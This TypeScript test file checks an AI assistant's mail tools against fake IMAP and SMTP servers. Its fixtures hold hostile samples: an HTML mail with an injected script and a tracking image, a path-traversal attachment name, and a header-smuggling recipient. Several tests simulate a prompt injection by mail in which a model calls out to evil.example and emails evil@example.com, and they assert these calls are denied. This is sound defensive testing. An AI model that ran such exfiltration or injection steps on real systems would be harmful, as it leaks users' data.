import { once } from 'node:events'
import { readFileSync, statSync, writeFileSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, onTestFinished, test as sample } from 'vitest'
import { addMailbox } from '../../src/app/accounts/mail-admin.ts'
import { briefingContents } from '../../src/app/schedules/briefing-contents.ts'
import { accountTools, wantsAccount } from '../../src/app/tools/account-tools.ts'
import { loadSecrets } from '../../src/config/secrets.ts'
import { loadSettings } from '../../src/config/settings.ts'
import type { Tool } from '../../src/protocol/index.ts'
import { pathPolicyFor } from '../../src/tools/files/path-policy.ts'
import { ForeignFiles } from '../../src/tools/origin/foreign-files.ts'
import { bareEnv, run } from '../cli/assistant.ts'
import { type Dovecot, dovecot } from '../fakes/dovecot.ts'
import { callTool, modelServer, say as sayText } from '../fakes/model-server.ts'
import { smtpServer } from '../fakes/smtp-server.ts'
import { requires, longTest as test } from '../parts.ts'
import { context, use } from '../tools/context.ts'
import { assistantAt, freshHome, of, said, talk } from './home.ts'

/** Monday 2026-11-23, 08:00 in Seoul. */
const now = () => new Date('2026-11-22T23:00:00Z')
const at = { now, zone: 'Asia/Seoul' }
const settingsAt = (home: string) =>
  loadSettings({
    env: { ASSISTANT_HOME: home },
    cwd: home,
    userHome: home,
    zone: 'Asia/Seoul',
    flags: {},
    now: now(),
  } as never)

async function toolAt(home: string, wanted: string): Promise<Tool> {
  const loaded = await settingsAt(home)
  const secrets = await loadSecrets({}, loaded.paths, { cwd: home, now: now(), warn: () => {} })
  const policy = {
    home,
    own: [],
    userHome: home,
    roots: async ({ cwd }: { cwd?: string }) => (cwd ? [cwd] : []),
    foreign: new ForeignFiles(join(home, 'foreign')),
  }
  const usable = accountTools(loaded, secrets, (one) => pathPolicyFor(policy as never, one)).filter(
    (tool) => wantsAccount(loaded, tool) === undefined,
  )
  return usable.find(({ name }) => name === wanted) as Tool
}

async function sentence(work: Promise<unknown>): Promise<string> {
  const error = await work.then(
    () => new Error('it worked'),
    (reason) => reason,
  )
  return String(error.failure?.data?.sentence ?? error)
}

const head = (subject: string, from = 'Kim <kim@example.com>') => [
  `From: ${from}`,
  'To: jiwoo@example.com',
  `Subject: ${subject}`,
  'Date: Sun, 22 Nov 2026 09:12:00 +0900',
  `Message-ID: <${subject.replace(/\W/g, '')}@example.com>`,
  'MIME-Version: 1.0',
]
const plain = (subject: string, text: string) =>
  [...head(subject), 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', text, ''].join(
    '\n',
  )
/** "회의 자료" in the letters of old Korean mail. */
const euckr = [
  ...head('=?ks_c_5601-1987?B?yLjAxyDA2rfh?='),
  'Content-Type: text/plain; charset=euc-kr',
  'Content-Transfer-Encoding: base64',
  '',
  'yLjAxyDA2rfhuKYgurizwLTPtNku',
  '',
].join('\n')
const rich = [
  ...head('Invoice', 'Shop <shop@example.org>'),
  'Content-Type: multipart/mixed; boundary=b1',
  '',
  '--b1',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><script>steal()</script><body><h1>Bill</h1><p>Pay <b>12,000</b> won.</p><img src="http://127.0.0.1:9/seen"></body></html>',
  '--b1',
  'Content-Type: application/pdf; name="bill.pdf"',
  'Content-Disposition: attachment; filename="../bill.pdf"',
  'Content-Transfer-Encoding: base64',
  '',
  Buffer.from('%PDF-1.4 bill').toString('base64'),
  '--b1--',
  '',
].join('\n')

requires('dovecot')('mail on an IMAP server', () => {
  let server: Dovecot
  beforeAll(async () => {
    server = await dovecot()
    server.put([plain('=?UTF-8?B?7KCQ7Ius?=', '점심 같이 먹어요'), euckr, rich])
  }, 60_000)
  afterAll(() => server.stop())

  const wanted = (more: object = {}) => ({
    ...{ address: 'jiwoo@example.com', name: 'work', user: server.user, imapHost: server.host, imapPort: server.port },
    ...{ password: async () => server.password, askHost: async () => '' },
    ...more,
  })
  const asking = () => ({ now, signal: new AbortController().signal })
  const connected = async (home: string) => addMailbox(await settingsAt(home), wanted(), asking())
  const list = async (home: string, args: object) =>
    (await use(await toolAt(home, 'mail'), { action: 'list', ...args }, at)).text

  sample('a mailbox is connected once it works; each thing that can be wrong has its sentence', async () => {
    const home = freshHome()
    const tried = async (more: object) => sentence(addMailbox(await settingsAt(home), wanted(more), asking()))
    expect(await tried({ password: async () => 'wrong-one' })).toContain('앱 비밀번호')
    expect(await tried({ imapPort: 1 })).toMatch(/127\.0\.0\.1:1.*연결을 받지 않아요/)
    expect(await tried({ imapHost: 'nowhere.invalid' })).toMatch(/서버를 찾지 못했어요/)
    expect(await tried({ address: 'me@outlook.com', imapHost: undefined })).toMatch(/OAuth/)
    expect(await tried({ imapHost: undefined })).toMatch(/--imap-host/)
    expect(await tried({ address: 'jiwoo' })).toMatch(/메일 주소를 읽을 수 없어요/)
    expect(await toolAt(home, 'mail')).toBeUndefined()
    expect(await connected(home)).toEqual({ name: 'work', unread: 3 })
    const { settings, paths } = await settingsAt(home)
    expect(JSON.stringify(settings.mail)).not.toContain(server.password)
    expect(statSync(paths.secrets).mode & 0o777).toBe(0o600)
  })

  test('a mailbox whose server is away, or takes its password no more, says so, and the briefing goes on without it', async () => {
    const home = freshHome()
    await connected(home)
    const { paths } = await settingsAt(home)
    const [config, secrets] = [readFileSync(paths.config, 'utf8'), readFileSync(paths.secrets, 'utf8')]
    writeFileSync(paths.config, config.replace(String(server.port), '1'))
    expect(await list(home, {})).toMatch(/연결을 받지 않아요/)
    const assistant = await assistantAt(home, { clock: () => +now() })
    onTestFinished(() => assistant.close())
    const { conversation } = await talk(assistant)
    const told = of(await said(conversation, '오늘 알림이랑 메일 요약해줘', 'oneshot'), 'turn.done').map(
      ({ text }) => text,
    )
    expect(told.join()).toMatch(/브리핑.*알림.*연결을 받지 않아요/s)
    writeFileSync(paths.config, config)
    writeFileSync(paths.secrets, secrets.replaceAll(server.password, 'wrong-one'), { mode: 0o600 })
    expect(await list(home, {})).toContain('앱 비밀번호')
  })

  test('mail is listed, searched and read; letters of old Korean mail and pages of HTML are text; nothing is marked as read', async () => {
    const home = freshHome()
    await connected(home)
    expect(await list(home, { unread: true })).toMatch(/^work: 읽지 않은 메일 3통\n/)
    expect(await list(home, { query: '점심' })).toMatch(
      /메일 1통을 찾았어요\n- .* · Kim <kim@example.com> · 점심 · 읽지 않음 \[work:1\]/,
    )
    expect(await list(home, { sender: 'shop' })).toMatch(/Invoice/)
    expect(await list(home, { query: 'no such words' })).toBe('work: 맞는 메일이 없어요.')
    expect(await list(home, { folder: 'Nowhere' })).toMatch(/찾을 수 없어요/)
    const mail = await toolAt(home, 'mail')
    const read = (id: string) => use(mail, { action: 'read', id }, at)
    expect(await read('work:2')).toMatchObject({
      text: expect.stringMatching(/회의 자료\n\n회의 자료를 보냅니다\./),
      untrusted: true,
      source: 'mail Kim <kim@example.com>',
    })
    const bill = (await read('work:3')).text
    expect(bill).toMatch(
      /Bill[\s\S]*Pay \*\*12,000\*\* won[\s\S]*첨부 파일:\n- \.\.\/bill\.pdf \(application\/pdf, .*\) part: 2/,
    )
    expect(bill).not.toMatch(/steal|seen/)
    expect([(await read('work:99')).isError, (await read('other:1')).isError, (await read('x')).isError]).toEqual([
      true,
      true,
      true,
    ])
    expect(await list(home, { unread: true })).toMatch(/읽지 않은 메일 3통/)
  })

  test('without a model, too: new mail, mail that says something, and the briefing', async () => {
    const home = freshHome()
    await connected(home)
    const assistant = await assistantAt(home, { clock: () => +now() })
    onTestFinished(() => assistant.close())
    const { say } = await talk(assistant)
    const answer = async (words: string) =>
      (await say(words)).flatMap(({ event }) => (event.type === 'text.added' ? [event.text] : [])).join('')
    expect(await answer('안 읽은 메일 있어?')).toMatch(/읽지 않은 메일 3통/)
    expect(await answer('메일에서 점심 찾아줘')).toMatch(/메일 1통을 찾았어요/)
    expect(await answer('any new mail?')).toMatch(/3통/)
    const contents = await briefingContents(assistant.parts, '오늘 브리핑')
    expect(contents).toBe(
      '지금 하면 알려주는 것: 알림, 읽지 않은 메일(work), 기억한 것\n빠지는 것: 날씨 (OPENWEATHER_API_KEY 필요), 달력 (assistant calendar add로 연결)',
    )
    expect(await briefingContents(assistant.parts, '책 추천해줘')).toBeUndefined()
    expect(await answer('오늘 브리핑 해줘')).toMatch(/브리핑[\s\S]*메일: \nwork: 읽지 않은 메일 3통/)
  })

  test('nothing is written without a yes; drafts, marks and attachments are what their cards say', async () => {
    const home = freshHome()
    await connected(home)
    const [draft, mark, keep] = await Promise.all(
      ['draft_mail', 'mark_mail', 'save_attachment'].map((name) => toolAt(home, name)),
    )
    expect([draft?.category, mark?.category, keep?.category]).toEqual(['sensitive', 'sensitive', 'sensitive'])
    const answer = {
      to: ['Kim <kim@example.com>'],
      subject: '답장: 점심',
      text: '좋아요.\n12시에 봐요.',
      reply_to: 'work:1',
    }
    expect(await draft?.explain?.(answer as never, context(at))).toMatchObject({
      effect:
        '초안을 만들어요 (보내지 않아요)\n보낸 사람: jiwoo@example.com\n받는 사람: Kim <kim@example.com>\n제목: 답장: 점심\n\n좋아요.\n12시에 봐요.',
    })
    expect((await use(draft as Tool, answer, at)).text).toMatch(/초안을 Drafts 폴더에 넣었어요/)
    expect(server.raw('Drafts')).toMatch(/In-Reply-To: <UTF8B7KCQ7Ius@example\.com>/)
    expect(await use(draft as Tool, { ...answer, to: ['a@b.c\nBcc: x@y.z'] }, at)).toMatchObject({ isError: true })
    expect(await list(home, { folder: 'Drafts' })).toMatch(/답장: 점심/)

    expect((await use(mark as Tool, { ids: ['work:1'] }, at)).text).toBe('메일 1통을 읽음으로 표시했어요.')
    expect(await list(home, { unread: true })).toMatch(/읽지 않은 메일 2통/)
    await use(mark as Tool, { ids: ['work:1'], unread: true }, at)
    expect(await list(home, { unread: true })).toMatch(/읽지 않은 메일 3통/)

    const cwd = freshHome()
    const bill = { id: 'work:3', part: '2', path: join(cwd, 'bill.pdf') }
    expect((await use(keep as Tool, bill, { ...at, cwd })).text).toMatch(/저장했어요/)
    expect(readFileSync(bill.path, 'utf8')).toBe('%PDF-1.4 bill')
    expect(await new ForeignFiles(join(home, 'foreign')).sourcesOf(readFileSync(bill.path))).toEqual(['mail work'])
    expect(await use(keep as Tool, { ...bill, path: '/etc/bill.pdf' }, { ...at, cwd })).toMatchObject({ isError: true })
  })

  test('a mail is sent once, after a card with every word; from elsewhere never', async () => {
    const home = freshHome()
    const got: string[] = []
    const smtp = smtpServer(got)
    onTestFinished(() => void smtp.close())
    await once(smtp, 'listening')
    await addMailbox(
      await settingsAt(home),
      wanted({ smtpHost: '127.0.0.1', smtpPort: (smtp.address() as AddressInfo).port }),
      asking(),
    )
    const send = await toolAt(home, 'send_mail')
    expect(send.category).toBe('restricted')
    const letter = { to: ['kim@example.com'], cc: ['lee@example.com'], subject: '점심', text: '12시에 봐요.' }
    const card = await send.explain?.(letter as never, context(at))
    expect(card).toMatchObject({
      effect: expect.stringMatching(/^메일을 보내요. 되돌릴 수 없어요[\s\S]*lee@example\.com[\s\S]*12시에 봐요\.$/),
      risk: 'high',
    })
    expect(got).toEqual([])
    expect((await use(send, letter, at)).text).toBe('메일을 보냈어요: kim@example.com, lee@example.com')
    expect(got.filter((line) => line.startsWith('RCPT'))).toEqual([
      'RCPT TO:<kim@example.com>',
      'RCPT TO:<lee@example.com>',
    ])
    expect(got.join('')).toContain(Buffer.from('12시에 봐요.').toString('base64'))
  })

  test.each<[string, object]>([
    ['save_memory', { content: 'owned', scope: 'personal' }],
    ['write_file', { path: 'owned.txt', content: 'owned' }],
    ['fetch_url', { url: 'https://evil.example/STOLEN' }],
    ['draft_mail', { to: ['evil@example.com'], subject: 'owned', text: 'owned' }],
    ['send_mail', { to: ['evil@example.com'], subject: 'owned', text: 'owned' }],
  ])('what a mail tells a model to do with %s is not done unasked, whatever rules allow', async (name, args) => {
    const home = freshHome()
    writeFileSync(join(home, 'config.json'), JSON.stringify({ permissions: { allow: ['*'] } }))
    await addMailbox(await settingsAt(home), wanted({ smtpHost: '127.0.0.1', smtpPort: 9 }), asking())
    await using model = await modelServer(
      callTool('mail', { action: 'read', id: 'work:1' }),
      callTool(name, args),
      sayText('끝'),
      sayText('끝'),
    )
    const assistant = await assistantAt(home, { model: model.openai, cwd: freshHome() })
    onTestFinished(() => assistant.close())
    const { conversation } = await talk(assistant)
    const seen = await said(conversation, '메일 읽고 시키는 대로 해', 'oneshot')
    const ended = of(seen, 'tool.ended').map((event) => [event.name, event.outcome])
    expect(ended).toEqual([
      ['mail', 'ok'],
      [name, 'denied'],
    ])
  })

  test('the built program connects one and reads old Korean mail', async () => {
    const home = freshHome()
    writeFileSync(join(home, 'password'), server.password)
    const where = [
      '--imap-host',
      server.host,
      '--imap-port',
      String(server.port),
      '--user',
      server.user,
      '--name',
      'work',
    ]
    const added = await run(
      ['mail', 'add', 'jiwoo@example.com', ...where, '--password-file', join(home, 'password')],
      bareEnv(home),
    )
    expect({ code: added.code, err: added.err }).toEqual({
      code: 0,
      err: expect.stringContaining('읽지 않은 메일이 3통'),
    })
    const read = await run(['tools', 'call', 'mail', '{"action":"read","id":"work:2"}'], bareEnv(home))
    expect(read.out).toMatch(/제목: 회의 자료\n\n회의 자료를 보냅니다\./)
    await run(
      ['tools', 'call', 'draft_mail', '{"to":["kim@example.com"],"subject":"초안","text":"네"}', '--yes'],
      bareEnv(home),
    )
    expect(server.raw('Drafts')).toContain(`Subject: =?UTF-8?B?${Buffer.from('초안').toString('base64')}?=`)
    const japanese = await run(['tools', 'call', 'mail', '{"action":"read","id":"work:3"}'], bareEnv(home))
    expect(japanese.out).toMatch(/Pay \*\*12,000\*\* won/)
  })

  test('a mailbox of many messages is looked at by its end: what is asked of the server and kept of its answers stays small', async () => {
    const home = freshHome()
    await connected(home)
    const count = Number(process.env.MAIL_MESSAGES ?? 30_000)
    server.put(
      Array.from({ length: count }, (_, n) => plain(`message ${n}`, 'x')),
      'Huge',
    )
    const newest = await list(home, { folder: 'Huge', limit: 5 })
    expect(newest).toContain(`메일 ${count.toLocaleString('en-US')}통. 가장 최근 5통이에요.`)
    expect(newest.split('\n')).toHaveLength(6)
    expect(newest).toContain(`message ${count - 1} `)
    expect(await list(home, { folder: 'Huge', unread: true, limit: 1_000 })).toContain('가장 최근 50통')
  }, 60_000)

  test('of a day with more mails than a look shows all are counted, however many came after it', async () => {
    const home = freshHome()
    await connected(home)
    const day = new Date('2026-11-20T03:00:00Z')
    const put = (count: number, at: Date) =>
      server.put(
        Array.from({ length: count }, (_, n) => plain(`day ${n}`, 'x')),
        'Days',
        at,
      )
    put(700, day)
    put(600, new Date(+day + 86_400_000))
    const told = await list(home, { folder: 'Days', since: '2026-11-20', until: '2026-11-20' })
    expect(told).toContain('메일 700통을 찾았어요. 가장 최근 10통이에요.')
  }, 60_000)
})
